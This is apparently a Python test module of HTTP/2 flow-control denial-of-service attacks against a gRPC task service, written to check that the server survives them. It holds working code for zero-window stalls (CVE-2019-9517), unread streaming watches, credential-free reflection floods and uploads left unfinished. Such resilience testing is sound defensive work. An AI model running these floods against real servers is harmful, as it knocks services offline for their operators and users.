"""Flow control: who never lets the server finish a sentence, and who never finishes its own."""

from __future__ import annotations

import asyncio
import struct

from h2.settings import SettingCodes
from quarterdeck import Client, Payload, Step
from quarterdeck.orchestration.v1 import task_service_pb2 as pb

from hostile.attacks import attack
from hostile.wire import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    REFLECTION,
    Arena,
    call_headers,
    frame,
    message,
    preface,
)

_TASKS = "/quarterdeck.orchestration.v1.TaskService/"


def _big_task(arena: Arena) -> str:
    """A task whose full view takes 2.5 MB."""

    async def create() -> str:
        async with Client(f"http://{arena.address[0]}:{arena.address[1]}", arena.key) as client:
            content = Payload.data("application/octet-stream", b"big!" * 62_500)
            steps = [Step(f"s{number}", "nobody-has-this", content) for number in range(10)]
            return (await client.create_task(steps)).id

    return asyncio.run(create())


def _unread_answers(arena: Arena, window: int) -> None:
    request = pb.GetTaskRequest(task_id=_big_task(arena), view=pb.TASK_VIEW_FULL)
    block, body = call_headers(_TASKS + "GetTask", arena.key), message(request.SerializeToString())
    opening = preface({SettingCodes.INITIAL_WINDOW_SIZE: window})
    for tick in arena.ticks():
        if tick % 5:
            continue
        # Several connections, so that no limit of one is what holds.
        lines = arena.keep(8, opening)
        line = lines[tick // 5 % len(lines)]
        stream = line.stream()
        line.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body))
        arena.sent(2)


@attack("answers of 2.5 MB that nobody lets through (CVE-2019-9517)", cut=True, frames=100)
def zero_window(arena: Arena) -> None:
    _unread_answers(arena, 0)


@attack("the same, let through for one byte", cut=True, frames=100)
def one_byte_window(arena: Arena) -> None:
    _unread_answers(arena, 1)


@attack("400 watches of all tasks that nobody reads", frames=600)
def unread_watches(arena: Arena) -> None:
    request = message(pb.WatchTasksRequest(include_steps=True).SerializeToString())
    block = call_headers(_TASKS + "WatchTasks", arena.key)
    opening = preface({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for tick in arena.ticks():
        lines = arena.keep(8, opening)
        line = lines[tick % len(lines)]
        if line.next_stream < 100:
            stream = line.stream()
            line.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, request))
            arena.sent(2)


@attack("descriptions of the contract that nobody reads, without a credential", refused=True, frames=4_000)
def unread_reflection(arena: Arena) -> None:
    # file_containing_symbol, field 4
    symbol = b"quarterdeck.orchestration.v1.TaskService"
    request = message(b"\x22" + bytes([len(symbol)]) + symbol)
    block = call_headers(REFLECTION)
    opening = preface({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for tick in arena.ticks():
        lines = arena.keep(16, opening)
        line = lines[tick % len(lines)]
        if line.next_stream < 2_000 and not line.busy:
            for stream in (line.stream() for _ in range(10)):
                line.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, request))
                arena.sent(2)


@attack("uploads of 4 MB that stop short of their end, without a credential", refused=True, frames=2_000)
def unfinished_uploads(arena: Arena) -> None:
    _uploads(arena, call_headers(REFLECTION))


@attack("the same with a credential", cut=True, frames=2_000)
def unfinished_creates(arena: Arena) -> None:
    _uploads(arena, call_headers(_TASKS + "CreateTask", arena.key))


def _uploads(arena: Arena, block: bytes) -> None:
    """320 MB in messages that end early, as fast as the connections' windows allow."""
    claim = message()[:1] + struct.pack(">I", 4_000_000)
    piece = b"u" * 16_384
    for _ in arena.ticks():
        for line in arena.keep(8):
            # A call takes 14 pieces, less than the window of one stream.
            while line.credit > 100_000 and not line.busy and line.said < 2_440:
                if line.said % 14 == 0:
                    stream = line.stream()
                    line.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, claim))
                    line.credit -= len(claim)
                line.send(frame(DATA, 0, line.next_stream - 2, piece))
                line.credit -= len(piece)
                line.said += 1
                arena.sent(1)
